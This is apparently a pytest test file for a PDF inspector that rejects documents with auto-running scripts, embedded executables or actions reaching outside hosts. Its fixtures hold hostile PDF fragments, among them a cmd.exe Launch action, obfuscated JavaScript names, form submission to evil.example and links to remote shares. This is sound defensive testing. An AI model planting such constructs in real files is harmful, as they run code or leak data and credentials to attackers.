"""PDF: harm wherever it hangs is found, in plain and compressed objects; oddities are kept."""

import shutil
import zlib
from pathlib import Path

import pytest

from tests import pdfs
from tests.hostile import workbook
from tests.pdfs import stream
from township.files import inspector
from township.files.checks import Refusal
from township.files.inspection import inspect

JS = "<</S/JavaScript/JS(app.alert\\(1\\))>>"
CMD = "<</S/Launch/F(cmd.exe)>>"
EXE = stream(b"MZ\x90\0program")
PACKED = stream(zlib.compress(workbook()), "/Filter/FlateDecode")
SPEC = "<</Type/Filespec/F(a.exe)/UF(a.exe)/EF<</F 5 0 R>>>>"

SCRIPTED = {
    "annotation's trigger": ("", f"/Annots[<</Subtype/Widget/AA<</E {JS}>>>>]", ()),
    "page's trigger": ("", f"/AA<</O {JS}>>", ()),
    "field's trigger": (f"/AcroForm<</Fields[<</T(a)/AA<</K {JS}>>>>]>>", "", ()),
    "catalog's trigger": (f"/AA<</WC {JS}>>", "", ()),
    "outline": ("/Outlines 4 0 R", "", ["<</First 5 0 R>>", f"<</Title(x)/A {JS}>>"]),
    "outline that launches": (
        "/Outlines 4 0 R",
        "",
        ["<</First 5 0 R>>", f"<</Title(x)/A {CMD}>>"],
    ),
    "field's child": ("/AcroForm<</Fields[4 0 R]>>", "", ["<</Kids[5 0 R]>>", f"<</A {JS}>>"]),
    "deep name tree": (
        "/Names<</JavaScript 4 0 R>>",
        "",
        ["<</Kids[5 0 R]>>", "<</Names[(a)6 0 R]>>", JS],
    ),
    "script as a stream": ("/OpenAction<</S/JavaScript/JS 4 0 R>>", "", [stream("app.alert(1)")]),
    "chain": ("", f"/Annots[<</A<</S/URI/URI(http://a.cn)/Next[<</S/Named>>{JS}]>>>>]", ()),
    "rendition": ("", "/Annots[<</A<</S/Rendition/JS(app.alert\\(1\\))>>>>]", ()),
    "written in another way": ("", "/AA<</O<</S/J#61va#53cript/J#53(app.alert\\(1\\))>>>>", ()),
    "XFA": ("/AcroForm<</XFA 4 0 R/Fields[]>>", "", [stream("<xdp><script>1</script></xdp>")]),
    "XFA in parts": ("/AcroForm<</XFA[(t)4 0 R]/Fields[]>>", "", [stream("<template/>")]),
    "hanging on nothing": ("", "", [JS]),
}
CARRYING = {
    "name tree": (
        "/Names<</EmbeddedFiles 6 0 R>>",
        "",
        [SPEC, EXE, "<</Kids[7 0 R]>>", "<</Names[(x)4 0 R]>>"],
    ),
    "note": ("", "/Annots[<</Subtype/FileAttachment/FS 4 0 R>>]", [SPEC, EXE]),
    "harmless name": (
        "",
        "/Annots[<</Subtype/FileAttachment/FS 4 0 R>>]",
        [SPEC.replace("a.exe", "a.txt"), EXE],
    ),
    "name with a dot behind": ("/AF[4 0 R]", "", [SPEC.replace("a.exe", "a.BAT. "), stream("x")]),
    "script under a harmless name": (
        "/AF[4 0 R]",
        "",
        [SPEC.replace("a.exe", "a.txt"), stream("<html><script>1</script></html>")],
    ),
    "archive": ("/AF[4 0 R]", "", [SPEC.replace("a.exe", "a.pdf"), stream(b"Rar!\x1a\x07\1\0")]),
    "script of the last name": (
        "/AF[4 0 R]",
        "",
        [SPEC.replace("/UF(a.exe)", "/UF(a.txt)"), stream("x")],
    ),
    "macro document": ("/AF[4 0 R]", "", [SPEC.replace("a.exe", "a.docm"), stream("PK")]),
}
REACHING_OUT = {
    "share on opening": ("/OpenAction<</S/GoToR/F(\\\\\\\\evil\\\\share\\\\a.pdf)/D[0]>>", "", ()),
    "file on opening": ("/OpenAction<</S/GoToR/F(b.pdf)/D[0]>>", "", ()),
    "page on opening": ("/OpenAction<</S/URI/URI(http://evil.example/)>>", "", ()),
    "page on turning": ("", "/AA<</O<</S/URI/URI(http://evil.example/)>>>>", ()),
    "form on opening": ("/OpenAction<</S/SubmitForm/F(http://evil.example/)>>", "", ()),
    "form on a click": ("", "/Annots[<</A<</S/SubmitForm/F<</FS/URL/F(http://e.cn)>>>>>>]", ()),
    "data": ("", "/Annots[<</A<</S/ImportData/F(a.fdf)>>>>]", ()),
    "share on a click": ("", "/Annots[<</A<</S/GoToR/F(//evil/share/a.pdf)>>>>]", ()),
    "share as an address": ("", "/Annots[<</A<</S/URI/URI(file://evil/share/a.pdf)>>>>]", ()),
    "script as an address": ("", "/Annots[<</A<</S/URI/URI(javascript:alert\\(1\\))>>>>]", ()),
    "picture from a share": ("", "/Contents 4 0 R", [stream("", "/F(\\\\\\\\evil\\\\share\\\\a)")]),
}
HARMLESS = {
    "empty tree of scripts": ("/Names<</JavaScript<</Names[]>>>>", "", ()),
    "empty script": ("/OpenAction<</S/JavaScript/JS()>>", "", ()),
    "place to open at": ("/OpenAction[3 0 R/Fit]", "", ()),
    "action to open at": ("/OpenAction<</S/GoTo/D[3 0 R/Fit]>>", "", ()),
    "print dialogue": ("/OpenAction<</S/Named/N/Print>>", "", ()),
    "empty triggers": ("/AA<<>>", "/AA<<>>", ()),
    "empty form": ("/AcroForm<</Fields[]/XFA[]>>", "", ()),
    "link": ("", "/Annots[<</Subtype/Link/A<</S/URI/URI(https://www.gov.cn/)>>>>]", ()),
    "mailbox": ("", "/Annots[<</Subtype/Link/A<</S/URI/URI(mailto:a@b.cn)>>>>]", ()),
    "file on the writer's disk": ("", "/Annots[<</A<</S/URI/URI(file:///D:/a.docx)>>>>]", ()),
    "file beside it": ("", "/Annots[<</A<</S/GoToR/F(b.pdf)/D[0]>>>>]", ()),
    "button that clears": ("", "/Annots[<</A<</S/ResetForm>>>>]", ()),
    "font named like a script": ("", "/Resources<</Font<</JS 4 0 R/AA 4 0 R>>>>", ["<</S/x>>"]),
    "attached table": ("/AF[4 0 R]", "", [SPEC.replace("a.exe", "a.xlsx"), PACKED]),
}


def examined(folder, content):
    path = folder / "a.pdf"
    path.write_bytes(content)
    return inspector.examine(path, "章程.pdf")


@pytest.mark.parametrize("write", [pdfs.plain, pdfs.packed])
@pytest.mark.parametrize(
    ("parts", "words"),
    [
        pytest.param(parts, words, id=name)
        for group, words in (
            (SCRIPTED, "自动运行"),
            (CARRYING, "夹带"),
            (REACHING_OUT, "连到别处"),
        )
        for name, parts in group.items()
    ],
)
def test_harm_is_found_wherever_it_hangs(tmp_path, write, parts, words):
    with pytest.raises(Refusal, match=words):
        examined(tmp_path, write(*parts))


@pytest.mark.parametrize("write", [pdfs.plain, pdfs.packed])
@pytest.mark.parametrize("parts", HARMLESS.values(), ids=HARMLESS)
def test_a_harmless_oddity_is_kept(tmp_path, write, parts):
    assert examined(tmp_path, write(*parts))["pages"] == 1


def test_a_script_behind_an_owner_s_password_is_found(tmp_path):
    with pytest.raises(Refusal, match="自动运行"):
        examined(tmp_path, pdfs.restricted(pdfs.plain(*SCRIPTED["page's trigger"])))


@pytest.mark.parametrize("algorithm", ["RC4-40", "RC4-128", "AES-128", "AES-256"])
def test_an_owner_s_password_alone_keeps_nobody_from_reading(tmp_path, algorithm):
    found = examined(tmp_path, pdfs.restricted(pdfs.plain(), algorithm))
    assert found["pages"] == 1 and "使用限制" in found["warnings"][0]


@pytest.mark.parametrize("filling", [bytes(1_000_000), b"\r\n" * 60_000, b" " * 90_000, b"\x1a"])
def test_what_a_transfer_put_behind_the_end_does_not_matter(tmp_path, filling):
    assert examined(tmp_path, pdfs.plain() + filling)["pages"] == 1


def test_a_broken_object_is_no_hiding_place(tmp_path):
    content = pdfs.plain("", "", [JS]).replace(b"4 0 obj\n<<", b"4 0 obj\n<(")
    with pytest.raises(Refusal):
        examined(tmp_path, content)


@pytest.mark.long
def test_a_register_of_many_objects_is_looked_through(tmp_path):
    shutil.copy(_register(tmp_path), tmp_path / "big.pdf")
    assert inspect(tmp_path / "big.pdf", "大.pdf").pages == 1


def _register(folder) -> Path:
    cell = "<</Type/StructElem/S/P/K[<</Type/MCR/Pg 3 0 R/MCID 1>>]>>"
    path = folder / "register.pdf"
    path.write_bytes(pdfs.packed("", "", [cell] * 40_000))
    return path
